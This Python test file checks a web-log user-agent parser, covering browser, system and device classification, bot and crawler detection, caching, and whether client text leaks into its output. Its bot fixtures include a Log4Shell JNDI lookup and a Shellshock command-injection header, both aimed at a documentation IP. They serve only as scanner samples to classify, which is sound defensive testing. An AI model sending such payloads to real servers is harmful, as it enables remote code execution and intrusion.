"""An agent string tells browser, system, device and bot, and passes on no text of the client."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from logstats import agent_rules, agents, rules, schema
from logstats.agent_reader import AT_ONCE
from logstats.agent_rules import AgentRules
from logstats.agents import AgentParser, parse_agents

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

CHROME = "Mozilla/5.0 ({}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.6167.85 {}Safari/537.36"
SAFARI = "Mozilla/5.0 ({}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{} Mobile/15E148 Safari/604.1"

PEOPLE = {
    "chrome-windows": (
        CHROME.format("Windows NT 10.0; Win64; x64", ""),
        ("Chrome", "121", "Windows", "10", "desktop"),
    ),
    "chrome-phone": (
        CHROME.format("Linux; Android 14; Pixel 8", "Mobile "),
        ("Chrome Mobile", "121", "Android", "14", "mobile"),
    ),
    "chrome-tablet": (
        CHROME.format("Linux; Android 13; SM-X900", ""),
        ("Chrome", "121", "Android", "13", "tablet"),
    ),
    "chromebook": (
        CHROME.format("X11; CrOS x86_64 14541.0.0", ""),
        ("Chrome", "121", "Chrome OS", None, "desktop"),
    ),
    "firefox-linux": (
        "Mozilla/5.0 (X11; Linux x86_64; rv:122.0) Gecko/20100101 Firefox/122.0",
        ("Firefox", "122", "Linux", None, "desktop"),
    ),
    "firefox-openbsd": (
        "Mozilla/5.0 (X11; OpenBSD amd64; rv:122.0) Gecko/20100101 Firefox/122.0",
        ("Firefox", "122", "OpenBSD", None, "desktop"),
    ),
    "safari-iphone": (
        SAFARI.format("iPhone; CPU iPhone OS 17_2 like Mac OS X", "17.2"),
        ("Mobile Safari", "17", "iOS", "17", "mobile"),
    ),
    "safari-ipad": (
        SAFARI.format("iPad; CPU OS 16_6 like Mac OS X", "16.6"),
        ("Mobile Safari", "16", "iOS", "16", "tablet"),
    ),
    "edge-mac": (
        CHROME.format("Macintosh; Intel Mac OS X 10_15_7", "") + " Edg/121.0.2277.83",
        ("Edge", "121", "Mac OS X", "10", "desktop"),
    ),
    "msie": (
        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)",
        ("IE", "6", "Windows", "XP", "desktop"),
    ),
    "windows-8": (
        "Mozilla/5.0 (Windows NT 6.3; WOW64; Trident/7.0; rv:11.0) like Gecko",
        ("IE", "11", "Windows", "8", "desktop"),
    ),
    "cubot": (
        CHROME.format("Linux; Android 10; CUBOT NOTE 20", "Mobile "),
        ("Chrome Mobile", "121", "Android", "10", "mobile"),
    ),
}

BOTS = {
    "googlebot": ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot"),
    "googlebot-phone": (
        CHROME.format("Linux; Android 6.0.1; Nexus 5X Build/MMB29P", "Mobile ")
        + " (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Googlebot",
    ),
    "gptbot": (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
        "GPTBot",
    ),
    "curl": ("curl/8.5.0", "curl"),
    "requests": ("python-requests/2.31.0", "Python"),
    "go": ("Go-http-client/1.1", "Go"),
    "headless": (
        CHROME.format("X11; Linux x86_64", "").replace("Chrome/", "HeadlessChrome/"),
        "headless browser",
    ),
    "log4j": ("${jndi:ldap://203.0.113.9/a}", "scanner"),
    "shellshock": ("() { :; }; /bin/ping -c 1 203.0.113.9", "scanner"),
    "none": ("-", "(no agent)"),
    "empty": ("", "(no agent)"),
    "unheard-of": ("MariaMusterBot/1.0 (+https://example.org/bot)", "(other bot)"),
    "mozilla-alone": ("Mozilla/5.0", "(other bot)"),
    "product-alone": ("Upstream/1.0", "(other bot)"),
}


def parse_one(text: str | None) -> tuple[object, ...]:
    return parse_agents(pl.Series([text], dtype=pl.String)).row(0)


@pytest.mark.parametrize(("text", "expected"), PEOPLE.values(), ids=list(PEOPLE))
def test_browsers_are_people(text: str, expected: tuple[str | None, ...]) -> None:
    """Family and major version, system and major version, device; no bot."""
    told = parse_one(text)

    assert told == (*expected, None)


@pytest.mark.parametrize(
    ("system", "device"),
    [
        ("PlayStation 5/SmartTV", "console"),
        ("Windows NT 10.0; Win64; x64; Xbox; Xbox One", "console"),
        ("Web0S; Linux/SmartTV", "tv"),
        ("SMART-TV; LINUX; Tizen 6.0", "tv"),
        ("Linux; Android 9; AFTMM", "tv"),
        ("iPad; CPU OS 16_6 like Mac OS X", "tablet"),
        ("Macintosh; PPC Mac OS X", "desktop"),
        ("Plan 9", "unknown"),
    ],
    ids=["playstation", "xbox", "lg", "samsung", "fire-tv", "ipad", "mac", "unheard-of"],
)
def test_devices_are_told_by_a_few_words(system: str, device: str) -> None:
    """The first class that fits counts: a console stands at a television."""
    assert parse_one(f"Mozilla/5.0 ({system}) AppleWebKit/605.1.15 (KHTML, like Gecko)")[4] == device


@pytest.mark.parametrize(("text", "name"), BOTS.values(), ids=list(BOTS))
def test_programs_are_bots(text: str, name: str) -> None:
    """A bot has a name; its browser and system say that it is one."""
    assert parse_one(text) == ("(bot)", None, "(bot)", None, "bot", name)


def test_an_agent_the_format_does_not_tell_is_nobody_known() -> None:
    """A log in the common format has no agents: its hits are not those of bots."""
    assert parse_one(None) == ("(unknown)", None, "(unknown)", None, "unknown", None)


def test_the_frame_has_a_row_for_each_value_in_order() -> None:
    """Also for values that are the same, and for none at all."""
    texts = [text for text, _ in [*PEOPLE.values(), *BOTS.values()]] * 2
    frame = parse_agents(pl.Series(texts))

    assert frame.schema == pl.Schema(agents.COLUMNS)
    assert frame.rows() == [parse_one(text) for text in texts]
    assert parse_agents(pl.Series([], dtype=pl.String)).schema == pl.Schema(agents.COLUMNS)
    assert parse_agents(pl.Series([None, None])).height == 2


def test_a_categorical_column_is_read_too() -> None:
    """Distinct values often come as categories."""
    values = pl.Series(["curl/8.5.0"], dtype=pl.Categorical)

    assert parse_agents(values)[schema.BOT].to_list() == ["curl"]


MARKER = "Zx9Qv7Marker"
# Places where ua-parser takes a name out of the text itself.
SHAPES = [
    "{0}/1.0 CFNetwork/978.0.7 Darwin/18.7.0",
    "{0}Bot/1.0",
    "/{0}Spider 1.0",
    "Mozilla/5.0 (compatible; {0}/1.0; +http://{0}.example)",
    "Mozilla/5.0 (Linux; Android {0}; {0} Build/{0}) Chrome/{0} Mobile Safari/{0}",
    "Mozilla/5.0 (X11; {0} Linux) Gecko/2010 Firefox/3.5 {0}/3.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS {0} like Mac OS X) [FBAN/{0};FBAV/{0};FBSN/{0};FBSV/{0}]",
    "{0} crawler {0}",
    "Opera/9.80 ({0}) Presto/{0} Version/{0}",
    "{0}",
    "Firefox ({0})",
    "aws-sdk-{0}/1.0",
]


@pytest.mark.parametrize("shape", SHAPES)
def test_no_text_of_the_client_is_handed_on(shape: str) -> None:
    """Wherever a client puts a word, no column holds it."""
    told = parse_one(shape.format(MARKER))

    assert MARKER.lower() not in repr(told).lower()


@given(st.lists(st.sampled_from([*SHAPES, *(text for text, _ in PEOPLE.values())])), st.text(max_size=30))
def test_every_name_is_one_of_the_rules(shapes: list[str], word: str) -> None:
    """A browser or system stands in ua-parser's patterns, a bot in our rules, a version is short."""
    frame = parse_agents(pl.Series([shape.replace("{0}", word) for shape in shapes], dtype=pl.String))
    fixed = AGENTS.fixed_names()
    bots = {rule.name for rule in rules.load_bot_rules().bots} | {
        agent_rules.OTHER_BOT,
        agent_rules.NO_AGENT,
        None,
    }

    assert set(frame[schema.BOT]) <= bots
    for name in (*frame[schema.BROWSER], *frame[schema.SYSTEM]):
        assert name in fixed or any(word in fixed for word in re.split(r" for | \(|\)", name))
    for version in frame[schema.BROWSER_VERSION].drop_nulls():
        assert re.fullmatch(r"[0-9]{1,4}", version)


def test_memory_is_bounded_by_the_number_of_agents_kept() -> None:
    """A log in which every agent differs leaves no more behind than the cache may hold."""
    parser = AgentParser(cache_size=100)
    texts = pl.Series([f"Mozilla/5.0 (X11; Linux x86_64; rv:{n}.0) Firefox/{n}.0" for n in range(1000)])

    assert parser.parse(texts).rows() == parse_agents(texts).rows()
    assert parser.cached() <= 100


@given(st.lists(st.text(max_size=10)), st.lists(st.text(max_size=10)), st.integers(0, 3))
def test_what_was_foreseen_is_told_as_if_it_was_not(first: list[str], then: list[str], times: int) -> None:
    """Once or more often, before agents that are the same and before others."""
    parser = AgentParser(cache_size=100)
    for _ in range(times):
        parser.foresee(pl.Series(first, dtype=pl.String))

    for texts in (then, first):
        assert parser.parse(pl.Series(texts, dtype=pl.String)).rows() == [
            tuple(AGENTS.read(t)) for t in texts
        ]


def test_more_agents_than_are_foreseen() -> None:
    texts = pl.Series([f"Mozilla/5.0 (X11; Linux) Firefox/{n}.0" for n in range(AT_ONCE + 10)])
    parser = AgentParser()

    parser.foresee(texts)

    assert parser.parse(texts).rows() == [tuple(AGENTS.read(text)) for text in texts]


def test_a_cache_keeps_no_text() -> None:
    """Agents are remembered by hash: a core dump of the cache names nobody."""
    parser = AgentParser()
    parser.parse(pl.Series([f"{MARKER}/1.0 (X11; Linux)"]))

    assert MARKER not in repr(vars(parser))


def test_an_endless_agent_costs_no_more_than_a_long_one() -> None:
    """What follows the first 1,024 characters is not looked at."""
    text = CHROME.format("X11; Linux x86_64", "") + " " * 2000 + "Googlebot"

    assert parse_one(text)[5] is None


AGENTS = AgentRules()


def yaml_agents(path: Path) -> Iterator[str]:
    """Yield the agent strings of ua-parser's own test files, which are YAML of one line each."""
    for line in path.read_text("utf-8").splitlines():
        found = re.match(r"\s*-? ?user_agent_string: '(.*)'$", line)
        if found:
            yield found[1].replace("''", "'")


def test_most_known_crawlers_are_found(corpus: Path) -> None:
    """At least 97 % of the agents on a public list of crawlers are bots."""
    listed = json.loads((corpus / "ua/crawlers/crawler-user-agents.json").read_text("utf-8"))
    texts = [text for crawler in listed for text in crawler["instances"]]
    found = sum(AGENTS.find_bot(text) is not None for text in texts)

    assert found / len(texts) > 0.97


def test_most_ai_crawlers_are_found(corpus: Path) -> None:
    """At least 90 % of the names on a public list of AI crawlers, as they write themselves."""
    listed = json.loads((corpus / "ua/crawlers/ai-robots.json").read_text("utf-8"))
    texts = [f"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {name}/1.0)" for name in listed]
    found = sum(AGENTS.find_bot(text) is not None for text in texts)

    assert found / len(texts) > 0.9


def test_no_firefox_is_a_bot(corpus: Path) -> None:
    """Browsers with odd additions, some hundred real ones, are people."""
    texts = list(yaml_agents(corpus / "ua/uap-core/firefox_user_agent_strings.yaml"))

    assert len(texts) > 200
    assert [text for text in texts if AGENTS.find_bot(text)] == []


def test_no_common_browser_of_the_corpus_is_a_bot(corpus: Path) -> None:
    """In ua-parser's own tests, what it names a common browser and what holds no address is people."""
    text = (corpus / "ua/uap-core/test_ua.yaml").read_text("utf-8")
    cases = re.findall(r"user_agent_string: '(Mozilla|Opera)([^\n]*)'\n\s*family: '([^']*)'", text)
    browsers = re.compile(r"(Chrome|Firefox|Safari|Edge|IE|Opera|Samsung|Mobile Safari|UC Browser)( |$)")
    people = [start + rest for start, rest, family in cases if browsers.match(family)]
    wrong = [agent for agent in people if AGENTS.find_bot(agent)]

    assert len(people) > 100
    assert len(wrong) / len(people) < 0.02
